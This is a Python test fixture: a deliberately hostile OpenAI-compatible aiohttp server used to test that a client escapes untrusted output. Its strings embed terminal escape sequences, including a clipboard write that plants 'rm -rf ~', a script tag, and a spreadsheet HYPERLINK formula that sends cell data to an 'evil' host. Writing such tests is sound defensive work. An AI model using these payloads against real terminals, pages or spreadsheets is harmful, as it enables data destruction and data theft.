"""A hostile OpenAI-compatible server: every string it sends (its model id, error
messages, finish reasons, /metrics labels, its version) carries terminal escape
sequences, Rich/Textual markup, HTML and spreadsheet formula prefixes. Every other
request fails with such a message; the others stream a short answer."""

from __future__ import annotations

import itertools
import json

from aiohttp import web

# What must never reach an output raw: ESC (CSI/OSC: window title, screen clear,
# clipboard write), BEL, 8-bit CSI, markup, HTML, and a formula.
HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07\x9b31m[bold red]mark[/]<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil/"&A1,"x")'
MODEL = "m" + HOSTILE
# The raw characters no output may hold (``printable`` writes them out as ``\\xNN``); the
# HTML report must not hold the tag raw either.
RAW_MARKERS = ("\x1b", "\x07", "\x9b")


def _chunk(model: str, text: str, finish: str | None) -> bytes:
    body = {
        "id": "x",
        "object": "chat.completion.chunk",
        "model": model,
        "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": finish}],
    }
    return b"data: " + json.dumps(body, separators=(",", ":")).encode() + b"\n\n"


class HostileServer:
    def __init__(self) -> None:
        self.count = itertools.count()

    async def models(self, request: web.Request) -> web.Response:
        return web.json_response({"object": "list", "data": [{"id": MODEL, "object": "model"}]})

    async def version(self, request: web.Request) -> web.Response:
        return web.json_response({"version": HOSTILE})

    async def metrics(self, request: web.Request) -> web.Response:
        label = HOSTILE.replace("\\", "\\\\").replace('"', '\\"')
        text = (
            f'vllm:num_requests_running{{model_name="{label}",engine="0"}} 1.0\n'
            f'vllm:num_requests_waiting{{model_name="{label}",engine="0"}} 0.0\n'
        )
        return web.Response(text=text, content_type="text/plain")

    async def chat(self, request: web.Request) -> web.StreamResponse:
        await request.read()
        n = next(self.count)
        if n % 2:
            message = FORMULA + HOSTILE if n % 4 == 1 else "-" + HOSTILE
            return web.json_response({"error": {"message": message, "type": "BadRequest"}}, status=400)
        resp = web.StreamResponse(headers={"Content-Type": "text/event-stream"})
        await resp.prepare(request)
        for i in range(4):
            await resp.write(_chunk(MODEL, f"tok{i}", None))
        await resp.write(_chunk(MODEL, "", "stop" + HOSTILE))
        await resp.write(
            b'data: {"id":"x","object":"chat.completion.chunk","choices":[],'
            b'"usage":{"prompt_tokens":10,"completion_tokens":5,"total_tokens":15}}\n\n'
        )
        await resp.write(b"data: [DONE]\n\n")
        await resp.write_eof()
        return resp


def hostile_app() -> web.Application:
    server = HostileServer()
    app = web.Application()
    app.router.add_get("/v1/models", server.models)
    app.router.add_get("/version", server.version)
    app.router.add_get("/metrics", server.metrics)
    app.router.add_post("/v1/chat/completions", server.chat)
    app.router.add_post("/v1/completions", server.chat)
    return app


if __name__ == "__main__":  # for looking at it by hand
    import sys

    web.run_app(hostile_app(), host="127.0.0.1", port=int(sys.argv[1]))
